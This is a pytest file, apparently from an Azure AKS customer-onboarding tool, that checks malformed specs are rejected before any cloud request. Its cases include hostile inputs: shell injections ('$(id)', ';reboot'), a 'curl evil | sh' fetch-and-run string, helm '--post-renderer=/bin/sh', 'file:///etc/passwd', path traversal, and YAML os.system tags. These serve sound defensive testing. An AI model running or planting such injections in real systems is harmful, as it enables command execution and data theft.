"""Malformed customer specs are refused before any cloud call, with a message naming the field and the customer.

Each case changes one field of a valid spec and goes through the same entry as an onboarding (validate, then the
steps in dry run); the sandbox's ARM request log must not move. A positive control proves the entry does reach ARM
when the spec is valid, so "no request" means "refused before the cloud", not "never tried".
"""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest

from onboarding.catalog import load_catalog
from onboarding.context import CustomerContext
from onboarding.errors import InvalidSpecError, PermanentError
from onboarding.models import load_customer_spec
from onboarding.pipeline import run_onboarding
from onboarding.settings import Settings
from sandbox.client import SandboxProcess
from tools.fleet_catalog import customer_document

pytestmark = [pytest.mark.chaos, pytest.mark.xdist_group("chaos")]

SOURCE = "bad-input-case"
IDENTITY = (
    "/subscriptions/5a9d3c2e-8f1b-4d6a-b3c4-2e1f0a9b1001/resourceGroups/ids"
    "/providers/Microsoft.ManagedIdentity/userAssignedIdentities/reader"
)
PLAN = {"name": "aks-standard", "publisher": "contoso-publisher", "product": "ama-aks", "version": "1.0.0"}

# (case id, dotted field path, value): the message must name the field path
CASES: list[tuple[str, str, Any]] = [
    ("tenant-not-a-guid", "tenant_id", "not-a-guid"),
    ("tenant-guid-in-braces", "tenant_id", "{7c1f4f7e-3a4b-4c55-9a1e-0c2d7f1a1001}"),
    ("tenant-oversized", "tenant_id", "7" * 100_000),
    ("subscription-odata-quote", "subscription_id", "5a9d3c2e' or principalId ne '0"),
    ("subscription-short", "subscription_id", "5a9d3c2e-8f1b-4d6a-b3c4-2e1f0a9b10"),
    ("name-upper-case", "name", "Fleet-One"),
    ("name-shell", "name", "acme;reboot"),
    ("name-oversized", "name", "a" * 5000),
    ("location-spaces", "location", "East US"),
    ("app-name-space", "managed_application.name", "my app"),
    ("app-rg-trailing-dot", "managed_application.resource_group", "acme-app."),
    ("app-rg-too-long", "managed_application.resource_group", "r" * 91),
    ("aks-name-leading-underscore", "managed_application.parameters.aks_name", "_aks"),
    ("node-rg-too-long", "managed_application.parameters.node_resource_group", "n" * 81),
    ("node-count-zero", "managed_application.parameters.node_count", 0),
    ("node-count-huge", "managed_application.parameters.node_count", 10**9),
    ("adopt-only-not-bool", "managed_application.adopt_only", "maybe"),
    ("definition-id-wrong-type", "managed_application.definition_id", IDENTITY),
    ("plan-publisher-option", "managed_application.plan.publisher", "--set"),
    ("definition-and-plan", "managed_application", None),
    ("unknown-node-role", "node_role", "Superuser"),
    ("node-role-as-guid", "node_role", "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"),
    ("unknown-credential-source", "credential_source", "root"),
    ("unknown-pod-identity-mode", "pod_identity.mode", "kiam"),
    ("selector-label-selector-syntax", "pod_identity.selector", "app in (a,b)"),
    ("namespace-upper-case", "pod_identity.namespace", "Kube-System"),
    ("service-account-shell", "pod_identity.service_account", "sa`id`"),
    ("storage-directory-missing", "storage.directory", ""),
    ("storage-file-missing", "storage.file", ""),
    ("storage-directory-traversal", "storage.directory", "folder1/../../etc"),
    ("storage-directory-empty-segment", "storage.directory", "folder1//x"),
    ("storage-account-upper-case", "storage.account", "MyAccount"),
    ("storage-filesystem-double-dash", "storage.filesystem", "da--ta"),
    ("storage-mode-unknown", "storage.mode", "trust-me"),
    ("helm-version-set", "chart.version", "4.1.18 --set image.repository=evil"),
    ("helm-name-option", "chart.name", "--post-renderer=/bin/sh"),
    ("helm-release-semicolon", "chart.release", "aad;id"),
    ("helm-release-too-long", "chart.release", "r" * 60),
    ("helm-namespace-subshell", "chart.namespace", "$(id)"),
    ("helm-repository-shell", "chart.repository", "https://charts.example.com/; curl evil | sh"),
    ("helm-repository-backticks", "chart.repository", "https://`id`.example.com"),
    ("helm-repository-file-scheme", "chart.repository", "file:///etc/passwd"),
    ("helm-oci-subshell", "chart.oci_reference", "oci://registry.example.com/$(id)"),
    ("helm-extra-values", "chart.values", {"image": {"repository": "evil"}}),
    ("helm-extra-set", "chart.set", "image.repository=evil"),
    ("display-name-yaml-tag", "display_name", "!!python/object/apply:os.system ['id']"),
    ("display-name-jmespath", "display_name", "[?tags.env=='prod'].id | [0]"),
    ("display-name-newline", "display_name", "Acme\nschedule: '* * * * *'"),
    ("display-name-option", "display_name", "--set x=1"),
    ("display-name-oversized", "display_name", "A" * 101),
    ("schedule-subshell", "schedule", "$(reboot) * * * *"),
    ("schedule-yaml-tag", "schedule", "!!python/object * * * *"),
    ("schedule-out-of-range", "schedule", "0 25 * * *"),
    ("identity-not-an-id", "identities.0", "/subscriptions/x/resourceGroups/rg"),
    (
        "identity-dashes-for-subscription",
        "identities.0",
        IDENTITY.replace("5a9d3c2e-8f1b-4d6a-b3c4-2e1f0a9b1001", "-" * 36),
    ),
    ("identities-too-many", "identities", [IDENTITY] * 11),
    ("unknown-top-level-field", "debug", True),
    ("unknown-nested-field", "storage.sas_token", "sv=2020&sig=abc"),
]


def _base() -> dict[str, Any]:
    return customer_document(401, tenants=5)


def _with(path: str, value: Any) -> dict[str, Any]:
    raw = _base()
    if path == "managed_application":  # both sources of the application at once
        raw["managed_application"]["definition_id"] = (
            "/subscriptions/00000000-0000-4000-8000-00000000b001/resourceGroups/publisher-rg"
            "/providers/Microsoft.Solutions/applicationDefinitions/ama-aks"
        )
        raw["managed_application"]["plan"] = copy.deepcopy(PLAN)
        return raw
    if path.startswith("managed_application.plan."):
        raw["managed_application"]["plan"] = copy.deepcopy(PLAN)
    parts = path.split(".")
    if parts[-1].isdigit():
        parts, value = parts[:-1], [value]
    node = raw
    for part in parts[:-1]:
        node = node.setdefault(part, {})
    node[parts[-1]] = value
    return raw


def _onboard(raw: Any) -> None:
    """What every entry does: validate, then the steps (a dry run here, so a valid spec only reads)."""
    spec = load_customer_spec(raw, source=SOURCE)
    run_onboarding(CustomerContext(spec, Settings()), dry_run=True)


def _who(raw: dict[str, Any]) -> str:
    name = raw.get("name")
    return name if isinstance(name, str) and len(name) < 60 else SOURCE


def test_valid_spec_reaches_arm(chaos_box: SandboxProcess) -> None:
    """Positive control: the same entry with the unmodified spec sends ARM requests."""
    mark = chaos_box.mark()
    with pytest.raises(PermanentError) as info:  # the customer is not registered: ARM answers 404
        _onboard(_base())
    assert not isinstance(info.value, InvalidSpecError)
    assert chaos_box.requests_log(since=mark), "a valid spec must reach ARM through this entry"


@pytest.mark.parametrize(("path", "value"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_malformed_spec_is_refused_before_any_arm_call(
    chaos_box: SandboxProcess, path: str, value: Any
) -> None:
    raw = _with(path, value)
    mark = chaos_box.mark()
    with pytest.raises(InvalidSpecError) as info:
        _onboard(raw)
    message = str(info.value)
    assert f"field {path}" in message, message
    assert f"customer {_who(raw)!r}" in message, message
    assert len(message) < 2000, "the message must not echo oversized input"
    assert chaos_box.requests_log(since=mark) == []


def test_catalog_file_with_python_yaml_tag_is_refused(chaos_box: SandboxProcess, tmp_path: Path) -> None:
    marker = tmp_path / "executed"
    (tmp_path / "evil.yaml").write_text(
        f"name: evil\ndisplay_name: !!python/object/apply:os.system ['touch {marker}']\n"
    )
    mark = chaos_box.mark()
    with pytest.raises(
        InvalidSpecError, match=r"customer 'evil'.*evil\.yaml is not valid YAML.*python/object"
    ):
        load_catalog(tmp_path)
    assert not marker.exists()
    assert chaos_box.requests_log(since=mark) == []


def test_spec_that_is_not_a_mapping_is_refused(chaos_box: SandboxProcess) -> None:
    mark = chaos_box.mark()
    with pytest.raises(InvalidSpecError, match="must be a mapping"):
        _onboard(["name", "tenant_id"])
    assert chaos_box.requests_log(since=mark) == []
